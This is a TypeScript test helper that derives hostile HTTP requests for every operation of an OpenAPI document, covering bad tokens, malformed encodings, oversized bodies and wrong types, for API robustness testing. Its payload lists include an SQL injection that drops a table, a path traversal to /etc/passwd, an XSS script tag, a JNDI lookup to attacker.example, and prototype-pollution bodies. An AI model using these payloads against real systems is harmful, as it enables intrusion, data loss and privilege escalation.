/**
 * Hostile requests for every operation of an OpenAPI document, derived from the document alone
 * (its parameters and request body schemas), so an endpoint added later is probed without this
 * file changing. Used by `openapi-hostile.test.ts`.
 */

export interface JsonSchema {
  $ref?: string;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: boolean | number;
  minItems?: number;
  format?: string;
  nullable?: boolean;
  description?: string;
  additionalProperties?: boolean | JsonSchema;
}

export interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema?: JsonSchema;
}

export interface Operation {
  operationId?: string;
  parameters?: Parameter[];
  requestBody?: { required?: boolean; content?: Record<string, { schema?: JsonSchema }> };
  security?: Record<string, string[]>[];
  responses?: Record<string, unknown>;
}

export interface OpenApiDocument {
  openapi: string;
  paths: Record<string, Record<string, Operation>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

export const HTTP_METHODS = ['get', 'put', 'post', 'delete', 'patch'] as const;
export type HttpMethod = (typeof HTTP_METHODS)[number];

/** Every operation of the document, in document order. */
export function operationsOf(document: OpenApiDocument) {
  return Object.entries(document.paths).flatMap(([path, item]) =>
    HTTP_METHODS.flatMap((method) => {
      const operation = item[method];
      return operation === undefined ? [] : [{ path, method, operation }];
    }),
  );
}

/** What a hostile request does to the Authorization header. */
export type AuthCase = 'live' | 'none' | 'revoked' | { header: string };

export interface HostileRequest {
  /** What is hostile about it, for the failure list. */
  label: string;
  method: Uppercase<HttpMethod>;
  /** Path and query, already encoded as they go on the wire. */
  url: string;
  auth: AuthCase;
  body?: { contentType: string; text: string };
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type PathSegment = string | number;

const resolver = (document: OpenApiDocument) => {
  const resolve = (schema: JsonSchema | undefined): JsonSchema => {
    if (schema?.$ref === undefined) return schema ?? {};
    const name = schema.$ref.replace('#/components/schemas/', '');
    return resolve(document.components?.schemas?.[name]);
  };
  return resolve;
};

const typeOf = (schema: JsonSchema): string | undefined => {
  if (Array.isArray(schema.type)) return schema.type.find((t) => t !== 'null');
  if (schema.type !== undefined) return schema.type;
  if (schema.properties !== undefined) return 'object';
  if (schema.items !== undefined) return 'array';
  return undefined;
};

/** A value the schema accepts (as far as the JSON schema can say), every property filled. */
function sampleOf(schema: JsonSchema, resolve: (s: JsonSchema) => JsonSchema): Json {
  const s = resolve(schema);
  if (s.const !== undefined) return s.const as Json;
  if (s.enum !== undefined && s.enum.length > 0) return s.enum[0] as Json;
  const branch = s.anyOf?.[0] ?? s.oneOf?.[0];
  if (branch !== undefined) return sampleOf(branch, resolve);
  if (s.allOf !== undefined) {
    return Object.assign({}, ...s.allOf.map((part) => sampleOf(part, resolve))) as Json;
  }
  switch (typeOf(s)) {
    case 'object':
      return Object.fromEntries(
        Object.entries(s.properties ?? {}).map(([key, value]) => [key, sampleOf(value, resolve)]),
      );
    case 'array':
      return Array.from({ length: Math.max(1, s.minItems ?? 1) }, () =>
        sampleOf(s.items ?? {}, resolve),
      );
    case 'integer':
    case 'number': {
      const min = s.minimum ?? 1;
      return s.exclusiveMinimum === true ? min + 1 : min;
    }
    case 'boolean':
      return true;
    case 'string':
    case undefined:
    default:
      if (s.format === 'email') return 'walker@example.com';
      if (s.format === 'uri' || s.format === 'url') return 'https://example.com/walker';
      return 'sample'.padEnd(s.minLength ?? 0, 'x').slice(0, s.maxLength ?? 64);
  }
}

/** One full sample per top-level alternative (a union body is probed branch by branch). */
function variantsOf(schema: JsonSchema, resolve: (s: JsonSchema) => JsonSchema): Json[] {
  const s = resolve(schema);
  const branches = s.anyOf ?? s.oneOf;
  return branches === undefined
    ? [sampleOf(s, resolve)]
    : branches.map((branch) => sampleOf(branch, resolve));
}

interface Leaf {
  path: PathSegment[];
  type: string | undefined;
  /** Required by its object: removing it is a "missing field" case. */
  required: boolean;
}

/** Every field of a sample value, nested ones included, with the schema's idea of its type. */
function leavesOf(
  schema: JsonSchema,
  value: Json,
  resolve: (s: JsonSchema) => JsonSchema,
  path: PathSegment[] = [],
  required = true,
): Leaf[] {
  const s = resolve(schema);
  const branch = (s.anyOf ?? s.oneOf)?.find(
    (b) => typeOf(resolve(b)) === (Array.isArray(value) ? 'array' : typeof value),
  );
  const here: Leaf = { path, type: typeOf(s), required };
  if (branch !== undefined) return leavesOf(branch, value, resolve, path, required);
  if (value !== null && typeof value === 'object' && !Array.isArray(value)) {
    const properties = s.properties ?? {};
    return [
      ...(path.length === 0 ? [] : [here]),
      ...Object.keys(value).flatMap((key) =>
        leavesOf(
          properties[key] ?? {},
          value[key] ?? null,
          resolve,
          [...path, key],
          s.required?.includes(key) ?? false,
        ),
      ),
    ];
  }
  if (Array.isArray(value) && value.length > 0) {
    return [here, ...leavesOf(s.items ?? {}, value[0] ?? null, resolve, [...path, 0], true)];
  }
  return [here];
}

const withValue = (base: Json, path: PathSegment[], value: Json | undefined): Json => {
  if (path.length === 0) return value ?? null;
  const copy = structuredClone(base) as Record<PathSegment, Json>;
  let node: Record<PathSegment, Json> = copy;
  for (const segment of path.slice(0, -1)) node = node[segment] as Record<PathSegment, Json>;
  const last = path.at(-1);
  if (last === undefined) return copy;
  if (value === undefined) delete node[last];
  else node[last] = value;
  return copy;
};

const KB = 1024;

/** Text that should never reach the database as it is, or never crash on the way there. */
export const HOSTILE_STRINGS: readonly [string, string][] = [
  ['NUL', 'a\u0000b'],
  ['only NUL', '\u0000'],
  ['control characters', '\u0001\u0007\u0008\u000b\u000c\u001b[31m\u001f\u007f'],
  ['C1 control characters', '\u0085\u009b'],
  ['lone surrogate', 'a\ud800b'],
  ['reversed surrogates', '\udc00\ud800'],
  ['100 KB string', 'x'.repeat(100 * KB)],
  ['SQL injection', "' OR '1'='1'; DROP TABLE users; --"],
  ['path traversal', '../../../../etc/passwd'],
  ['markup', '<script>alert(1)</script>'],
  ['template injection', '${jndi:ldap://attacker.example/x}{{7*7}}'],
  ['emoji', '😀'.repeat(50)],
  ['blank', '   '],
  ['empty', ''],
];

/** Values of the wrong type for any field. */
const WRONG_TYPES: readonly [string, Json][] = [
  ['a number', 12345],
  ['a huge number', 1e308],
  ['a boolean', true],
  ['null', null],
  ['an object', { nested: { deeper: 'x' } }],
  ['an array', ['a', 1]],
  ['a string', 'not-of-this-type'],
];

/** Path segments as they go on the wire: encoded hostile strings, raw broken encodings. */
const HOSTILE_PATH_SEGMENTS: readonly [string, string][] = [
  // Lone surrogates cannot be percent-encoded (encodeURIComponent throws): their bytes are below.
  ...HOSTILE_STRINGS.filter(
    ([label, value]) => !/surrogate/.test(label) && value.length < 10 * KB,
  ).map(([label, value]): [string, string] => [label, encodeURIComponent(value)]),
  ['very long', 'x'.repeat(10 * KB)],
  ['100 KB', 'x'.repeat(100 * KB)],
  ['encoded lone surrogate', '%ED%A0%80'],
  ['overlong UTF-8', '%C0%AF'],
  ['broken percent-encoding', '%E0%A4%A'],
  ['bad percent-encoding', '%zz'],
  ['a lone percent', '%'],
  ['encoded slash', '..%2F..%2Fetc%2Fpasswd'],
  ['dot-dot', '..'],
  ['negative', '-1'],
  ['huge', '99999999999999999999999'],
  ['not a number', 'NaN'],
];

/** Query values: the strings above and what paging parameters should refuse. */
const HOSTILE_QUERY_VALUES: readonly [string, string][] = [
  ...HOSTILE_PATH_SEGMENTS.filter(([label]) => label !== 'dot-dot'),
  ['negative', '-1'],
  ['very negative', '-9999999999999999999'],
  ['above the safe integers', '9007199254740993'],
  ['largest safe integer', '9007199254740991'],
  ['huge', '1e309'],
  ['infinite', 'Infinity'],
  ['fraction', '1.5'],
  ['hexadecimal', '0x1F'],
  ['not numeric', 'abc'],
  ['empty', ''],
];

const isJsonContent = (contentType: string) => /^application\/(.+\+)?json$/.test(contentType);

/** Every hostile request for one operation. */
export function hostileRequests(
  document: OpenApiDocument,
  path: string,
  method: HttpMethod,
  operation: Operation,
): HostileRequest[] {
  const resolve = resolver(document);
  const verb = method.toUpperCase() as Uppercase<HttpMethod>;
  const parameters = operation.parameters ?? [];
  const pathParams = parameters.filter((p) => p.in === 'path');
  const queryParams = parameters.filter((p) => p.in === 'query');
  const secured = (operation.security ?? []).some((r) => Object.keys(r).length > 0);
  const auth: AuthCase = secured ? 'live' : 'none';

  const sampleParam = (p: Parameter) => {
    const value = sampleOf(p.schema ?? {}, resolve);
    return typeof value === 'object' ? JSON.stringify(value) : String(value);
  };
  const baseQuery = new Map(
    queryParams.filter((p) => p.required === true).map((p) => [p.name, sampleParam(p)]),
  );
  const urlWith = (
    pathValues: Record<string, string> = {},
    query: Map<string, string> | string = baseQuery,
  ) => {
    const filled = path.replace(/\{([^}]+)\}/g, (_m, name: string) => {
      const given = pathValues[name];
      if (given !== undefined) return given;
      const param = pathParams.find((p) => p.name === name);
      return encodeURIComponent(param === undefined ? 'sample' : sampleParam(param));
    });
    const search =
      typeof query === 'string'
        ? query
        : [...query].map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&');
    return search === '' ? filled : `${filled}?${search}`;
  };

  const content = operation.requestBody?.content ?? {};
  const contentType =
    Object.keys(content).find(isJsonContent) ?? Object.keys(content)[0] ?? 'application/json';
  const bodySchema = content[contentType]?.schema;
  const variants = bodySchema === undefined ? [] : variantsOf(bodySchema, resolve);
  const baseBody = variants[0];
  const json = (value: Json) => ({ contentType, text: JSON.stringify(value) });
  const baseRequest = (label: string): HostileRequest => ({
    label,
    method: verb,
    url: urlWith(),
    auth,
    ...(baseBody === undefined ? {} : { body: json(baseBody) }),
  });

  const requests: HostileRequest[] = [baseRequest('the sample request')];

  // Authentication: none, a revoked token, tokens that were never issued.
  requests.push(
    { ...baseRequest('no token'), auth: 'none' },
    { ...baseRequest('a revoked token'), auth: 'revoked' },
    { ...baseRequest('a token never issued'), auth: { header: 'Bearer never-issued' } },
    { ...baseRequest('a 10 KB token'), auth: { header: `Bearer ${'x'.repeat(10 * KB)}` } },
    { ...baseRequest('another scheme'), auth: { header: 'Basic d2Fsa2VyOndhbGtlcg==' } },
    { ...baseRequest('an empty bearer'), auth: { header: 'Bearer ' } },
  );

  for (const param of pathParams) {
    for (const [label, segment] of HOSTILE_PATH_SEGMENTS) {
      requests.push({
        ...baseRequest(`path ${param.name}: ${label}`),
        url: urlWith({ [param.name]: segment }),
      });
    }
  }

  const queryNames = [...queryParams.map((p) => p.name), 'unknown'];
  for (const name of queryNames) {
    for (const [label, value] of HOSTILE_QUERY_VALUES) {
      const query = new Map(baseQuery);
      query.delete(name);
      const search = [...query].map(([k, v]) => `${k}=${encodeURIComponent(v)}`);
      // Values go on the wire as listed: some are deliberately broken encodings.
      const raw = /%|^\.\.$/.test(value) ? value : encodeURIComponent(value);
      requests.push({
        ...baseRequest(`query ${name}: ${label}`),
        url: urlWith({}, [...search, `${name}=${raw}`].join('&')),
      });
    }
    requests.push({
      ...baseRequest(`query ${name}: repeated`),
      url: urlWith({}, `${name}=1&${name}=2`),
    });
    requests.push({
      ...baseRequest(`query ${name}: without a value`),
      url: urlWith({}, name),
    });
  }
  for (const param of queryParams.filter((p) => p.required === true)) {
    const query = new Map(baseQuery);
    query.delete(param.name);
    requests.push({ ...baseRequest(`query ${param.name}: missing`), url: urlWith({}, query) });
  }
  requests.push({
    ...baseRequest('query: a NUL in a parameter name'),
    url: urlWith({}, 'a%00b=1'),
  });

  const takesBody = bodySchema !== undefined || ['post', 'put', 'patch'].includes(method);
  if (!takesBody) return requests;

  const withBody = (label: string, contentTypeHeader: string, text: string): HostileRequest => ({
    ...baseRequest(label),
    body: { contentType: contentTypeHeader, text },
  });
  const baseObject =
    baseBody !== null && typeof baseBody === 'object' && !Array.isArray(baseBody) ? baseBody : {};
  const baseText = JSON.stringify(baseObject);
  const mergeInto = (prefix: string) =>
    baseText === '{}' ? `{${prefix}}` : `{${prefix},${baseText.slice(1)}`;

  requests.push(
    { ...baseRequest('no body'), body: undefined },
    withBody('an empty JSON body', 'application/json', ''),
    withBody('a JSON null body', 'application/json', 'null'),
    withBody('a JSON array body', 'application/json', '[]'),
    withBody('a JSON string body', 'application/json', '"text"'),
    withBody('a JSON number body', 'application/json', '42'),
    withBody('an empty JSON object', 'application/json', '{}'),
    withBody('malformed JSON', 'application/json', '{"a":'),
    withBody('trailing garbage after JSON', 'application/json', `${baseText}}`),
    withBody('a NUL as a key and a value', 'application/json', '{"\\u0000":"\\u0000"}'),
    withBody('__proto__ pollution', 'application/json', mergeInto('"__proto__":{"isAdmin":true}')),
    withBody(
      'constructor.prototype pollution',
      'application/json',
      mergeInto('"constructor":{"prototype":{"isAdmin":true}}'),
    ),
    withBody(
      'extra fields',
      'application/json',
      JSON.stringify({ ...baseObject, extra: 'x', userId: 'someone-else', credits: 1_000_000 }),
    ),
    withBody(
      'a 2 MB body',
      'application/json',
      JSON.stringify({ ...baseObject, padding: 'x'.repeat(2 * KB * KB) }),
    ),
    withBody(
      'deeply nested JSON',
      'application/json',
      `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    ),
    withBody('plain text', 'text/plain', baseText),
    withBody(
      'a form with NULs',
      'application/x-www-form-urlencoded',
      [...Object.keys(baseObject), 'email', 'extra'].map((k) => `${k}=a%00b`).join('&'),
    ),
    withBody('an unknown media type', 'application/x-walker', baseText),
    withBody('a charset nobody speaks', 'application/json; charset=klingon', baseText),
  );

  if (bodySchema === undefined) return requests;
  variants.forEach((variant, index) => {
    const where = variants.length > 1 ? ` (alternative ${index + 1})` : '';
    const body = (label: string, value: Json): HostileRequest => ({
      ...baseRequest(`${label}${where}`),
      body: json(value),
    });
    if (index > 0) requests.push(body('the sample request', variant));
    for (const leaf of leavesOf(bodySchema, variant, resolve)) {
      const field = leaf.path.join('.') || '(body)';
      if (leaf.type === 'string' || leaf.type === undefined) {
        for (const [label, value] of HOSTILE_STRINGS) {
          requests.push(body(`${field}: ${label}`, withValue(variant, leaf.path, value)));
        }
      }
      for (const [label, value] of WRONG_TYPES) {
        requests.push(body(`${field}: ${label}`, withValue(variant, leaf.path, value)));
      }
      if (leaf.required && leaf.path.length > 0) {
        requests.push(body(`${field}: missing`, withValue(variant, leaf.path, undefined)));
      }
    }
  });
  return requests;
}
